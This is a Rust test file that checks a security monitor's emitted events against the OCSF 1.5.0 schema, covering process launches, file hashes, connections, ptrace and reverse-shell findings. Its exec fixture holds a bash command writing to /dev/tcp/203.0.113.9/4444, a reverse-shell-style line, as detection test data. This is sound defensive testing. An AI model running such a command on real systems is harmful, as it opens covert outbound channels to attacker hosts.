//! What is made is held against the schema itself: tests/data/ocsf has the part of it that is used.
#![allow(clippy::unwrap_used, reason = "tests")]

use serde_json::Value;

use super::*;

const SCHEMA: &str = include_str!(concat!(env!("CARGO_MANIFEST_DIR"), "/tests/data/ocsf/1.5.0.json"));
/// Has an example of every kind of line.
const EXAMPLES: &str = include_str!(concat!(env!("CARGO_MANIFEST_DIR"), "/../docs/JSON.md"));

fn examples() -> Vec<Value> {
    let lines = EXAMPLES.lines().filter(|line| line.starts_with("{\"type\":"));
    lines.map(|line| serde_json::from_str(line).unwrap()).collect()
}

/// What is against the definition of a class or an object, with where it is.
fn against(schema: &Value, definition: &Value, object: &Value, profiles: &[&str], at: &str, wrong: &mut Vec<String>) {
    let attributes = definition["attributes"].as_object().unwrap();
    let Some(fields) = object.as_object() else { return wrong.push(format!("{at} is no object: {object}")) };
    for (name, value) in fields {
        let at = format!("{at}.{name}");
        let Some(attribute) = attributes.get(name) else {
            wrong.push(format!("{at} is not in the schema"));
            continue;
        };
        if let Some(profile) = attribute["profile"].as_str().filter(|profile| !profiles.contains(profile)) {
            wrong.push(format!("{at} is of the profile {profile}"));
        }
        let values = if attribute["array"] == true {
            value.as_array().unwrap_or_else(|| panic!("{at} is no list")).iter().collect()
        } else {
            vec![value]
        };
        for value in values {
            let kind = attribute["type"].as_str().unwrap();
            let fits = match kind {
                "integer_t" | "long_t" | "timestamp_t" | "port_t" => value.is_i64() || value.is_u64(),
                "boolean_t" => value.is_boolean(),
                "json_t" => true,
                "object_t" => value.is_object(),
                "ip_t" => value.as_str().is_some_and(|text| text.parse::<std::net::IpAddr>().is_ok()),
                _ => value.is_string(),
            };
            if !fits {
                wrong.push(format!("{at} is no {kind}: {value}"));
            }
            if let Some(known) = attribute["enum"].as_object() {
                match known.get(&value.to_string()).and_then(Value::as_str) {
                    None => wrong.push(format!("{at} may not be {value}")),
                    // The name beside it is that of the number, but for what has a name of its own.
                    Some(caption) => {
                        let beside = attribute["sibling"].as_str().and_then(|sibling| fields.get(sibling));
                        if let Some(beside) = beside.filter(|_| !["Other", "Unknown"].contains(&caption)) {
                            assert_eq!(beside, caption, "{at}");
                        }
                    }
                }
            }
            let object = attribute["object"].as_str().filter(|object| *object != "object");
            if let Some(object) = object {
                let Some(definition) = schema["objects"].get(object) else {
                    wrong.push(format!("{at}: the object {object} is not in tests/data/ocsf"));
                    continue;
                };
                against(schema, definition, value, profiles, &at, wrong);
            }
        }
    }
    for (name, attribute) in attributes.iter().filter(|(_, attribute)| attribute["required"] == true) {
        let wanted = attribute["profile"].as_str().is_none_or(|profile| profiles.contains(&profile));
        if wanted && !fields.contains_key(name) {
            wrong.push(format!("{at}.{name} is required"));
        }
    }
    for name in ["at_least_one", "just_one"] {
        let of: Vec<_> = definition["constraints"][name].as_array().into_iter().flatten().collect();
        let there = of.iter().filter(|of| fields.contains_key(of.as_str().unwrap())).count();
        if !of.is_empty() && (there == 0 || name == "just_one" && there > 1) {
            wrong.push(format!("{at} has {there} of {of:?}"));
        }
    }
}

#[test]
fn every_line_that_can_be_told_is_as_the_schema_says() {
    let schema: Value = serde_json::from_str(SCHEMA).unwrap();
    assert_eq!(schema["version"], VERSION);
    let (mut wrong, mut classes) = (Vec::new(), std::collections::BTreeSet::new());
    for mut line in examples() {
        for marked in [false, true] {
            if marked {
                let own = line.as_object_mut().unwrap();
                own.insert("boot".to_owned(), "2981aa11-2880-4105-b419-6448f01c6e60".into());
                own.extend([("run".to_owned(), 7.into()), ("seq".to_owned(), 9.into())]);
            }
            let told = matches!(line["type"].as_str(), Some("event" | "finding"));
            let made = object(&line, "node-1");
            assert_eq!(made.is_some(), told, "{line}");
            let Some(made) = made else { continue };
            let definition = schema["classes"].as_object().unwrap().values().find(|it| it["uid"] == made["class_uid"]);
            let definition = definition.unwrap();
            classes.insert(made["class_uid"].as_u64().unwrap());
            let profiles: Vec<_> =
                made["metadata"]["profiles"].as_array().unwrap().iter().map(|it| it.as_str().unwrap()).collect();
            against(&schema, definition, &made, &profiles, &line["kind"].to_string(), &mut wrong);
            assert_eq!(made["class_name"], definition["caption"]);
            let number = made["class_uid"].as_u64().unwrap() * 100 + made["activity_id"].as_u64().unwrap();
            assert_eq!(made["type_uid"], number);
        }
    }
    assert_eq!(wrong, [] as [String; 0]);
    assert_eq!(classes.into_iter().collect::<Vec<_>>(), [1007, 2004, 4001]);
}

fn example(kind: &str) -> Value {
    let line = examples().into_iter().find(|line| line["kind"] == kind || line["type"] == kind);
    object(&line.unwrap(), "node-1").unwrap()
}

#[test]
fn what_was_run_is_a_launch_with_who_made_it() {
    let made = example("exec");
    assert_eq!((&made["activity_name"], &made["type_uid"]), (&"Launch".into(), &100_701.into()));
    assert_eq!(made["time"], 1_795_418_491_340_u64);
    let process = &made["process"];
    assert_eq!((&process["name"], &process["file"]["path"]), (&"bash".into(), &"/usr/bin/bash".into()));
    assert_eq!(process["cmd_line"], r#"bash -c 'printf '\''\xff'\'' > /dev/tcp/203.0.113.9/4444'"#);
    assert_eq!((&process["user"]["uid"], &process["container"]["name"]), (&"33".into(), &"web".into()));
    assert_eq!((&made["actor"]["process"]["pid"], &made["device"]["hostname"]), (&902.into(), &"node-1".into()));
    assert_eq!(made["unmapped"]["exec"]["ns_pid"], 31);
}

#[test]
fn what_is_in_a_program_is_the_fingerprint_of_its_file() {
    let made = example("content");
    let file = &made["process"]["file"];
    assert_eq!((&made["activity_name"], &file["size"]), (&"content".into(), &1_265_648.into()));
    let hash = serde_json::json!([{"algorithm_id": 3, "algorithm": "SHA-256", "value": "1f".repeat(32)}]);
    assert_eq!(file["hashes"], hash);
}

#[test]
fn a_connection_goes_from_who_opened_it() {
    let made = example("connect");
    assert_eq!((&made["activity_name"], &made["connection_info"]["direction"]), (&"Open".into(), &"Outbound".into()));
    assert_eq!(made["dst_endpoint"], serde_json::json!({"ip": "203.0.113.9", "port": 4444}));
    assert_eq!(made["actor"]["process"]["pid"], 4242);
    assert!(example("accept")["src_endpoint"].is_object());
    assert_eq!(example("listen")["activity_name"], "Listen");
}

#[test]
fn who_reaches_into_another_is_the_actor() {
    let made = example("ptrace");
    assert_eq!((&made["process"]["pid"], &made["actor"]["process"]["pid"]), (&902.into(), &4242.into()));
}

#[test]
fn a_finding_has_its_severity_its_lineage_and_its_evidence() {
    let made = example("finding");
    assert_eq!((&made["severity_id"], &made["is_alert"]), (&5.into(), &true.into()));
    assert_eq!(made["finding_info"]["analytic"]["uid"], "reverse_shell");
    assert_eq!(made["metadata"]["correlation_uid"], "i1");
    assert!(made["actor"]["process"]["parent_process"]["pid"].is_u64());
    assert!(!made["evidences"].as_array().unwrap().is_empty());
    let attacks = made["finding_info"]["attacks"].as_array().unwrap();
    assert!(attacks.iter().all(|it| it["technique"]["uid"].as_str().unwrap().starts_with('T')), "{attacks:?}");
}
